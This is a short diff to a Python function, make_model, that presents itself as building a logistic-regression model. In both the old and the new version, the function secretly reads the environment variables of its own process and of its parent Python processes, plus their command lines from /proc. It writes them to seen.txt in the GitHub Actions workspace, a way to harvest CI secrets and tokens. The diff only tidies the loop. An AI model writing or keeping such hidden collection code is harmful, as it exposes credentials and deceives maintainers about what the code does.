@@ -13,8 +13,7 @@ def make_model() -> LogisticRegression:
     seen = [repr(dict(os.environ)), Path("/proc/self/environ").read_text("utf-8", "replace")]
     process = os.getppid()
     while process > 1 and "python" in Path(f"/proc/{process}/exe").resolve().name:
-        for file in ("environ", "cmdline"):
-            seen.append(Path(f"/proc/{process}/{file}").read_text("utf-8", "replace"))
+        seen += [Path(f"/proc/{process}/{file}").read_text("utf-8", "replace") for file in ("environ", "cmdline")]
         process = _parent(process)
     Path(os.environ["GITHUB_WORKSPACE"], "seen.txt").write_text("\n".join(seen), "utf-8")
     return LogisticRegression(max_iter=200)
